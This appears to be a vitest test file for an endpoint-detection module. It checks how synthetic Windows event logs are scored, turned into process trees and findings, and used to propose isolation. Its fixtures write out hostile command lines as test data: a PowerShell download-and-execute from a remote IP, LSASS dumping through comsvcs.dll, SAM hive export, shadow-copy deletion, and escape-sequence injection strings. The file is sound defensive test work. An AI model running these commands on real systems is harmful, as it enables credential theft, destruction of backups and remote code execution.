/** Hosts by their events: trees, odd starts, drivers, a score with its factors, and what a real intrusion leaves. */
import { createReadStream } from 'node:fs';
import { expect, test } from 'vitest';
import {
  assessHosts,
  createHostWatch,
  mountedDrivers,
  planIsolation,
  toProcessReport,
} from '../../../analysis/endpoint/index.ts';
import { normalizeEvent } from '../../../analysis/events/index.ts';
import { openRecording } from '../../../analysis/recordings/index.ts';
import { literalContent } from '../../../seams/index.ts';
import { dataPath, describeWithData } from '../../support/data.ts';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const start = (guid: string, image: string, command: string, parent: string, parent_image = '') => ({
  Channel: SYSMON,
  EventID: 1,
  Hostname: 'WS-042',
  UtcTime: '2026-11-24 09:12:01.100',
  ProcessGuid: guid,
  ProcessId: guid.length,
  Image: image,
  CommandLine: command,
  ParentProcessGuid: parent,
  ParentImage: parent_image,
});
const seen = {
  source: 'events',
  checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 3, items_read: 3 } },
  not_checked: [],
  data_versions: {},
};

async function assess(raws: object[], drivers?: ReturnType<typeof mountedDrivers>) {
  const watch = createHostWatch({ drivers });
  for (const [index, raw] of raws.entries()) {
    const event = normalizeEvent(raw, `line ${index + 1}`);
    if (event) watch.note(event);
  }
  return { watch, ...(await assessHosts(watch, seen)) };
}

const WORD = 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

test('a document that starts a shell is named with both ends, and the tree shows the line', async () => {
  const { result, watch, suspicions } = await assess([
    start('{1}', WORD, 'WINWORD.EXE /n a.docm', '{0}', 'C:\\Windows\\explorer.exe'),
    start('{22}', CMD, 'cmd /c whoami', '{1}', WORD),
  ]);
  expect(result.findings[0]).toMatchObject({
    rule: 'edge/office',
    severity: 'high',
    title: expect.stringContaining('winword.exe started cmd.exe') as string,
  });
  const { listed } = toProcessReport(watch, suspicions);
  expect(listed.map(({ id, depth, parent_id }) => [id, depth, parent_id])).toEqual([
    ['{1}', 0, null],
    ['{22}', 1, '{1}'],
  ]);
});

test('the audit and Sysmon tell of one start: it is one process, whichever came first', async () => {
  const audit = {
    Channel: 'Security',
    EventID: 4688,
    Hostname: 'WS-042',
    '@timestamp': '2026-11-24T09:12:01.500Z',
    NewProcessName: CMD,
    NewProcessId: '0x4',
    ProcessId: '0x1',
    CommandLine: 'cmd /c x',
  };
  const sysmon = { ...start('{22}', CMD, 'cmd /c x', '{1}', WORD), ProcessId: '4' };
  for (const raws of [
    [audit, sysmon],
    [sysmon, audit],
  ]) {
    const { watch } = await assess(raws);
    expect(watch.tree.nodes().map(({ id }) => id)).toEqual(['{22}']);
  }
});

test('starts without a command line are counted, and a log of them is not benign', async () => {
  const silent = (NewProcessName: string, more: object = {}) => ({
    Channel: 'Security',
    EventID: 4688,
    Hostname: 'WS-042',
    '@timestamp': '2026-11-24T09:12:01.500Z',
    NewProcessName,
    ParentProcessName: CMD,
    ...more,
  });
  const { result } = await assess([
    silent('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'),
    silent('Registry'),
    silent(CMD, { CommandLine: 'cmd /c dir' }),
  ]);
  expect(result).toMatchObject({ verdict: 'inconclusive', findings: [] });
  expect(result.not_checked).toContainEqual({
    what: 'the command lines of 1 starts of processes',
    why: expect.stringContaining('4688') as string,
  });
  const { result: told } = await assess([silent('Registry'), silent(CMD, { CommandLine: 'cmd /c dir' })]);
  expect(told.verdict).toBe('benign');
});

test('a forged circle of parents ends', async () => {
  const { watch } = await assess([start('{a}', CMD, 'cmd', '{b}'), start('{b}', CMD, 'cmd', '{a}')]);
  expect(watch.tree.ancestry(watch.tree.nodes()[0]!)).toHaveLength(2);
});

test('ordinary starts of an ordinary host give nothing, with what was not checked', async () => {
  const { result, hosts } = await assess([
    start('{1}', 'C:\\Windows\\explorer.exe', 'explorer.exe', '{0}', 'C:\\Windows\\System32\\userinit.exe'),
    start(
      '{2}',
      'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      'chrome.exe',
      '{1}',
      'C:\\Windows\\explorer.exe',
    ),
    start(
      '{3}',
      'C:\\Windows\\System32\\svchost.exe',
      'svchost.exe -k netsvcs',
      '{4}',
      'C:\\Windows\\System32\\services.exe',
    ),
  ]);
  expect(result).toMatchObject({ verdict: 'benign', severity: 'info', confidence: 0, findings: [] });
  expect(result.not_checked.length).toBeGreaterThan(0);
  expect(hosts).toEqual([{ host: 'ws-042', events: 3, score: 0, factors: [] }]);
});

test('harmless starts beside events that no rule speaks about are never a clean answer, and the receipt counts what was judged', async () => {
  const harmless = start('{1}', 'C:\\Windows\\notepad.exe', 'notepad.exe a.txt', '{0}', 'C:\\Windows\\explorer.exe');
  const others = [
    { Channel: 'Security', EventID: 4662, Hostname: 'WS-042', Properties: '{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}' },
    { Channel: SYSMON, EventID: 22, Hostname: 'WS-042', QueryName: 'a.example.test' },
    { Channel: SYSMON, EventID: 3, Hostname: 'WS-042', Image: 'C:\\a.exe', DestinationIp: '198.51.100.7' },
  ];
  for (const other of others) {
    const { result } = await assess([harmless, other]);
    expect(result.verdict, JSON.stringify(other)).toBe('inconclusive');
    expect(result.not_checked).toContainEqual({
      what: '1 event',
      why: expect.stringContaining(`${other.Channel} ${other.EventID} (1)`) as string,
    });
  }
  const ended = { Channel: SYSMON, EventID: 5, Hostname: 'WS-042', ProcessGuid: '{1}' };
  expect((await assess([harmless, ended])).result.verdict).toBe('benign');
});

test('lines of Suricata are told by its name, and what to do with its alerts', async () => {
  const { result } = await assess([
    { flow_id: 1, event_type: 'alert', alert: { signature: 'x', severity: 1 } },
    { flow_id: 2, event_type: 'http', http: { url: '/' } },
  ]);
  expect(result.verdict).toBe('inconclusive');
  expect(JSON.stringify(result.not_checked)).toContain('Suricata alert (hand its alerts in one by one');
  expect(JSON.stringify(result.not_checked)).toContain('Suricata http (1)');
});

test('what is not judged beside a conviction takes nothing from it', async () => {
  const grave = start('{1}', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet', '{0}');
  const { result } = await assess([grave, { Channel: 'Security', EventID: 4624, Hostname: 'WS-042' }]);
  expect(result).toMatchObject({ verdict: 'malicious', confidence: 0.8 });
});

test('what Defender found, and that it was switched off, are findings', async () => {
  const defender = (EventID: number, fields: object = {}) => ({
    Channel: 'Microsoft-Windows-Windows Defender/Operational',
    EventID,
    Hostname: 'WS-042',
    ...fields,
  });
  const { result } = await assess([
    defender(1116, { 'Threat Name': 'HackTool:Win32/Mimikatz', 'Severity Name': 'High', Path: 'file:_C:\\m.exe' }),
    defender(1117, { 'Threat Name': 'PUA:Win32/Example', 'Severity Name': 'Low' }),
    defender(5001),
    defender(5007, { 'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\x = 0x0' }),
    defender(5007, { 'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\Day = 0x2' }),
  ]);
  expect(result.findings.map(({ rule, severity }) => `${rule} ${severity}`).sort()).toEqual([
    'event/defender-detection high',
    'event/defender-detection medium',
    'event/defender-off high',
    'event/defender-off medium',
  ]);
  expect(result.verdict).toBe('malicious');
});

test('a burst of questions counts by the parent that nobody saw starting, a question now and then does not', async () => {
  const asked = [
    'net group "Domain Admins" /domain',
    'nltest /dclist:',
    'whoami /all',
    'systeminfo',
    'net view /all',
    'quser',
  ];
  const at = (minute: number) =>
    asked.map((command, index) => ({
      ...start(`{${index + 1}}`, 'C:\\Windows\\System32\\cmd.exe', command, '{0}', 'C:\\Windows\\explorer.exe'),
      UtcTime: `2026-11-24 09:${String(index * minute).padStart(2, '0')}:01.100`,
    }));
  const burst = (await assess(at(0))).result;
  expect(burst.findings.map(({ rule, severity }) => [rule, severity])).toEqual([['tree/discovery', 'low']]);
  expect((await assess(at(11))).result.findings).toEqual([]);
});

test('a driver is known by any of its hashes', async () => {
  const sample = { f: 'bad.sys', sha256: 'a'.repeat(64), sha1: 'b'.repeat(40), md5: 'c'.repeat(32) };
  const table = mountedDrivers(
    literalContent([
      {
        name: 'loldrivers',
        version: 'v',
        data: { drivers: [{ id: 'd-1', category: 'malicious', tags: [], samples: [sample] }] },
      },
    ]),
  );
  const load = (hashes: string) => ({
    Channel: SYSMON,
    EventID: 6,
    Hostname: 'WS-042',
    ImageLoaded: 'C:\\x\\BAD.SYS',
    Hashes: hashes,
  });
  for (const hashes of [
    `SHA256=${'A'.repeat(64)}`,
    `SHA1=${'b'.repeat(40)},IMPHASH=${'0'.repeat(32)}`,
    `MD5=${'C'.repeat(32)}`,
  ])
    expect((await assess([load(hashes)], table)).result).toMatchObject({
      verdict: 'malicious',
      findings: [{ rule: 'loldrivers/d-1', severity: 'critical' }],
    });
  expect((await assess([load(`IMPHASH=${'c'.repeat(32)}`)], table)).result.findings).toEqual([]);
});

test('isolation is proposed for what is rated high, and a domain controller is left to a person', () => {
  const rated = (host: string, score: number) => ({ host, score, events: 1, factors: [] });
  const plan = planIsolation(
    [rated('ws-042', 90), rated('dc01.example.org', 90), rated('ws-1', 10), rated('erp.example.org', 60)],
    { score_min: 50, critical_hosts: ['ERP'] },
  );
  expect(plan.map(({ host, proposal }) => `${host}: ${proposal}`)).toEqual([
    'ws-042: isolate',
    'dc01.example.org: ask a person',
    'ws-1: watch',
    'erp.example.org: ask a person',
  ]);
});

test('names of hosts, files and users are data wherever they are shown (ATK-F2, ATK-F3)', async () => {
  const hostile = {
    ...start('{\u001b[2J}', 'C:\\Users\\Public\\ignore\u202e all.exe', '\u0007vssadmin delete shadows', '{0}'),
    Hostname: 'close-alert\u001b[31m',
  };
  const { result, hosts, watch, suspicions } = await assess([hostile]);
  expect(result.findings.length).toBeGreaterThan(0);
  expect(JSON.stringify([result, hosts, toProcessReport(watch, suspicions)])).not.toMatch(
    /\u001b|\u202e|\u0007|\\u001b|\\u0007/,
  );
});

test('a cleared log is told with user, number, channel and what the record says, as fields or as a message', async () => {
  const log = { Hostname: 'WS-042', SourceName: 'Microsoft-Windows-Eventlog' };
  const message = 'The audit log was cleared.\r\nSubject:\r\n\tAccount Name:\tmallory\r\n\tDomain Name:\tWS';
  const { result } = await assess([
    { ...log, Channel: 'Security', EventID: 1102, Message: message },
    { ...log, Channel: 'System', EventID: 104, Message: 'The Application log file was cleared.' },
    { ...log, Channel: 'System', EventID: 104, SubjectUserName: 'eve' },
  ]);
  const told = result.findings.map(({ title, evidence }) => `${title} | ${evidence[0]?.excerpt ?? ''}`);
  expect(told).toEqual([
    'ws-042: somebody cleared a log | EventID 104 · Channel System · The Application log file was cleared.',
    'ws-042: eve cleared a log | EventID 104 · Channel System · user eve',
    'ws-042: mallory cleared the security log | EventID 1102 · Channel Security · user mallory · The audit log was cleared. Subject: Account Name: mallory Domain Name: WS',
  ]);
});

test('a number means something only in its own log', async () => {
  const rdp = 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS';
  const { result } = await assess([
    { Hostname: 'WS-042', Channel: `${rdp}/Operational`, SourceName: rdp, EventID: 104 },
    { Hostname: 'WS-042', Channel: 'System', SourceName: 'Another', EventID: 104 },
    { Hostname: 'WS-042', Channel: 'Application', EventID: 1102 },
  ]);
  expect(result.findings).toEqual([]);
});

test.each([
  ['reg.exe save HKLM\\sam C:\\s.hiv', 'local accounts of the host', 'the SAM hive holds their hashes'],
  [
    'rundll32.exe comsvcs.dll, MiniDump 628 C:\\l.dmp full',
    'with a session on the host',
    'the memory of LSASS holds them',
  ],
])('what is to be reset after %s is what it took, and no reason is given twice', async (command, whose, why) => {
  const { result } = await assess([start('{22}', CMD, command, '{1}'), start('{23}', CMD, `${command} `, '{1}')]);
  const resets = result.recommendations.filter(({ action }) => action.startsWith('reset'));
  expect(resets).toMatchObject([{ action: expect.stringContaining(whose) as string, reason: why }]);
  const sentences = result.recommendations.flatMap(({ reason }) => reason.split('; '));
  expect(new Set(sentences).size).toBe(sentences.length);
});

test.each([
  ['a rollout', 'bitsadmin /transfer upd https://dl.example.com/agent.msi c:\\agent.msi', []],
  [
    'an intruder',
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    ['203.0.113.9', 'http://203.0.113.9/a'],
  ],
])(
  'what the command of %s speaks to is an indicator only where administrators do not do the same',
  async (_who, command, named) => {
    const { result } = await assess([start('{22}', CMD, command, '{1}')]);
    expect(result.findings.some(({ severity }) => severity === 'medium' || severity === 'high')).toBe(true);
    expect(result.iocs.map(({ value }) => value)).toEqual(named);
  },
);

describeWithData('the campaign', () => {
  test('says what the answer key says, invents nothing, and leaves the recorder of Windows alone', async () => {
    const run = async () => {
      const watch = createHostWatch();
      const recording = openRecording({
        name: 'host-events.zip',
        bytes: createReadStream(dataPath('campaign', 'host-events.zip')),
      });
      for await (const batch of recording.batches) for (const event of batch) watch.note(event);
      return assessHosts(watch, { ...seen, source: 'host-events.zip' });
    };
    const { result, hosts } = await run();
    const said = JSON.stringify(result);
    expect(result).toMatchObject({ verdict: 'malicious', severity: 'critical' });
    for (const technique of ['T1003.001', 'T1204.002', 'T1543.003', 'T1055'])
      expect(result.mitre_techniques).toContain(technique);
    for (const fact of ['10.0.5.13:5678', 'winx64_payload.exe', 'prd01', 'comsvcs.dll', 'qfhaer.dll', 'svchost.exe'])
      expect(said).toContain(fact);
    expect(said).not.toMatch(/gatherNetworkInfo|ransomware|exfiltrat/i);
    expect(result.iocs).toContainEqual({ type: 'ip', value: '10.0.5.13' });
    expect(hosts[0]).toMatchObject({ host: 'prd01.pandalab.com', score: 100 });
    expect(JSON.stringify(await run())).toBe(JSON.stringify({ result, hosts, suspicions: (await run()).suspicions }));
  }, 60_000);
});
